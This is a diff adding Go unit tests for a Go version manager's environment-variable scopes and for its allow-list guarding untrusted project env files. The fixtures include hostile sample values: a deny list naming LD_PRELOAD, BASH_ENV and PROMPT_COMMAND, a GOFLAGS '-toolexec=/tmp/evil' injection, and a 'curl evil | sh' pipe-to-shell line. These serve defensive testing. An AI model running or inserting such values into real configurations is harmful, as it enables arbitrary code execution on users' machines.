@@ -0,0 +1,197 @@
+package service
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"version-list/internal/domain/model"
+)
+
+func TestVersionService_ResolveEnvVarsPrecedence(t *testing.T) {
+	service, versionRepo := newTestVersionService(t, "")
+	versionRepo.Save(&model.GoVersion{Version: "1.21.13", Path: t.TempDir()})
+	versionRepo.Save(&model.GoVersion{Version: "1.22.7", Path: t.TempDir()})
+	versionRepo.SetActive("1.22.7")
+
+	project := t.TempDir()
+	subdir := filepath.Join(project, "cmd", "server")
+	os.MkdirAll(subdir, 0755)
+
+	steps := []struct {
+		scope  model.EnvScope
+		target string
+		name   string
+		value  string
+	}{
+		{model.EnvScopeGlobal, "", "GOFLAGS", "-mod=mod"},
+		{model.EnvScopeGlobal, "", "CGO_ENABLED", "1"},
+		{model.EnvScopeGlobal, "", "GOTOOLCHAIN", "auto"},
+		{model.EnvScopeVersion, "1.21.13", "CGO_ENABLED", "0"},
+		{model.EnvScopeVersion, "1.21.13", "GOTOOLCHAIN", "local"},
+		{model.EnvScopeProject, project, "GOTOOLCHAIN", "go1.21.13"},
+	}
+	for _, step := range steps {
+		if err := service.SetEnvVar(step.scope, step.target, step.name, step.value); err != nil {
+			t.Fatalf("设置 %s 失败: %v", step.name, err)
+		}
+	}
+
+	tests := []struct {
+		name    string
+		version string
+		dir     string
+		want    []string
+	}{
+		{"全局", "1.22.7", "", []string{"CGO_ENABLED=1 global", "GOFLAGS=-mod=mod global", "GOTOOLCHAIN=auto global"}},
+		{"版本覆盖全局", "1.21.13", "", []string{"CGO_ENABLED=0 version", "GOFLAGS=-mod=mod global", "GOTOOLCHAIN=local version"}},
+		{"项目覆盖版本", "1.21.13", subdir, []string{"CGO_ENABLED=0 version", "GOFLAGS=-mod=mod global", "GOTOOLCHAIN=go1.21.13 project"}},
+		{"默认使用当前版本", "", "", []string{"CGO_ENABLED=1 global", "GOFLAGS=-mod=mod global", "GOTOOLCHAIN=auto global"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			vars, err := service.ResolveEnvVars(tt.version, tt.dir)
+			if err != nil {
+				t.Fatalf("合并环境变量失败: %v", err)
+			}
+			got := make([]string, len(vars))
+			for i, v := range vars {
+				got[i] = v.String() + " " + string(v.Source)
+			}
+			if strings.Join(got, ",") != strings.Join(tt.want, ",") {
+				t.Errorf("环境变量 = %v, 期望 %v", got, tt.want)
+			}
+		})
+	}
+
+	if _, err := os.Stat(filepath.Join(project, ProjectEnvFileName)); err != nil {
+		t.Errorf("项目环境变量应保存在 %s 中", ProjectEnvFileName)
+	}
+	// 在子目录中设置时写入已有的项目文件
+	if err := service.SetEnvVar(model.EnvScopeProject, subdir, "GOEXPERIMENT", "rangefunc"); err != nil {
+		t.Fatalf("设置项目环境变量失败: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(subdir, ProjectEnvFileName)); !os.IsNotExist(err) {
+		t.Error("子目录中不应创建新的项目文件")
+	}
+}
+
+func TestVersionService_SetEnvVarValidation(t *testing.T) {
+	service, versionRepo := newTestVersionService(t, "")
+	versionRepo.Save(&model.GoVersion{Version: "1.22.7", Path: t.TempDir()})
+
+	for _, name := range []string{"GOROOT", "PATH", "1GO", "GO-FLAGS", "", "PROMPT_COMMAND", "BASH_ENV", "LD_PRELOAD"} {
+		if err := service.SetEnvVar(model.EnvScopeGlobal, "", name, "x"); err == nil {
+			t.Errorf("设置 %q 应返回错误", name)
+		}
+	}
+	if err := service.SetEnvVar(model.EnvScopeVersion, "1.20.0", "CGO_ENABLED", "0"); err == nil {
+		t.Error("未安装的版本应返回错误")
+	}
+	if err := service.UnsetEnvVar(model.EnvScopeGlobal, "", "GOFLAGS"); err == nil {
+		t.Error("删除未设置的变量应返回错误")
+	}
+
+	service.SetEnvVar(model.EnvScopeVersion, "1.22.7", "CGO_ENABLED", "0")
+	if err := service.UnsetEnvVar(model.EnvScopeVersion, "1.22.7", "CGO_ENABLED"); err != nil {
+		t.Fatalf("删除版本环境变量失败: %v", err)
+	}
+	env, _ := service.environmentRepo.Get()
+	if _, exists := env.VersionVars["1.22.7"]; exists {
+		t.Error("删除最后一个变量后应移除该版本的配置")
+	}
+}
+
+func TestVersionService_HookEnvironmentIncludesEnvVars(t *testing.T) {
+	service, versionRepo := newTestVersionService(t, "")
+	version := &model.GoVersion{Version: "1.21.13", Path: t.TempDir()}
+	versionRepo.Save(version)
+	service.SetEnvVar(model.EnvScopeVersion, "1.21.13", "GOTOOLCHAIN", "go1.21.13")
+
+	env, err := service.hookEnvironment(model.HookPostInstall, version)
+	if err != nil {
+		t.Fatalf("获取钩子环境失败: %v", err)
+	}
+	// 后出现的值生效
+	var toolchain string
+	for _, kv := range env {
+		if strings.HasPrefix(kv, "GOTOOLCHAIN=") {
+			toolchain = kv
+		}
+	}
+	if toolchain != "GOTOOLCHAIN=go1.21.13" {
+		t.Errorf("GOTOOLCHAIN = %s, 期望自定义环境变量覆盖默认值", toolchain)
+	}
+}
+
+func TestVersionService_UntrustedProjectEnv(t *testing.T) {
+	service, versionRepo := newTestVersionService(t, "")
+	version := &model.GoVersion{Version: "1.21.13", Path: t.TempDir()}
+	versionRepo.Save(version)
+	versionRepo.SetActive("1.21.13")
+	service.SetEnvVar(model.EnvScopeGlobal, "", "GOFLAGS", "-mod=mod")
+
+	// 克隆的仓库中自带的项目文件
+	project := t.TempDir()
+	wd, _ := os.Getwd()
+	os.Chdir(project)
+	t.Cleanup(func() { os.Chdir(wd) })
+	writeTestFile(t, project, ProjectEnvFileName, "env:\n  GOFLAGS: -toolexec=/tmp/evil\n")
+
+	assertGOFLAGS := func(want string) {
+		t.Helper()
+		vars, err := service.ResolveEnvVars("1.21.13", project)
+		if err != nil {
+			t.Fatalf("合并环境变量失败: %v", err)
+		}
+		if len(vars) != 1 || vars[0].Value != want {
+			t.Errorf("合并结果 = %v, 期望 GOFLAGS=%s", vars, want)
+		}
+		env, err := service.EffectiveEnvironment("1.21.13", project)
+		if err != nil || effectiveValue(env, "GOFLAGS") != want {
+			t.Errorf("env/exec/shell 钩子的 GOFLAGS = %s, 期望 %s (%v)", effectiveValue(env, "GOFLAGS"), want, err)
+		}
+		hookEnv, err := service.hookEnvironment(model.HookPostUse, version)
+		if err != nil {
+			t.Fatalf("获取钩子环境失败: %v", err)
+		}
+		if got := hookEnv[len(hookEnv)-2]; got != "GOFLAGS="+want {
+			t.Errorf("钩子的 %s, 期望 GOFLAGS=%s", got, want)
+		}
+	}
+
+	// 未允许时不使用项目文件，也不能通过 env set 修改
+	if path, allowed, err := ProjectEnvStatus(project); err != nil || allowed || path != filepath.Join(project, ProjectEnvFileName) {
+		t.Errorf("ProjectEnvStatus() = %s, %v, %v", path, allowed, err)
+	}
+	assertGOFLAGS("-mod=mod")
+	if err := service.SetEnvVar(model.EnvScopeProject, project, "CGO_ENABLED", "0"); err == nil || !strings.Contains(err.Error(), "env allow") {
+		t.Errorf("修改未允许的项目文件应返回错误: %v", err)
+	}
+
+	// 允许后生效
+	if _, err := AllowProjectEnv(project); err != nil {
+		t.Fatalf("允许项目文件失败: %v", err)
+	}
+	assertGOFLAGS("-toolexec=/tmp/evil")
+	if info, err := os.Stat(ProjectEnvAllowListPath()); err != nil || info.Mode().Perm() != 0600 {
+		t.Error("允许列表的权限应为 0600")
+	}
+
+	// 内容变化后需要重新允许
+	writeTestFile(t, project, ProjectEnvFileName, "env:\n  GOFLAGS: -toolexec=/tmp/other\n")
+	assertGOFLAGS("-mod=mod")
+	AllowProjectEnv(project)
+	assertGOFLAGS("-toolexec=/tmp/other")
+
+	if _, err := RevokeProjectEnv(project); err != nil {
+		t.Fatalf("撤销允许失败: %v", err)
+	}
+	assertGOFLAGS("-mod=mod")
+
+	// 包含不允许自定义的变量时拒绝允许
+	writeTestFile(t, project, ProjectEnvFileName, "env:\n  PROMPT_COMMAND: curl evil | sh\n")
+	if _, err := AllowProjectEnv(project); err == nil {
+		t.Error("包含 PROMPT_COMMAND 的项目文件不应被允许")
+	}
+}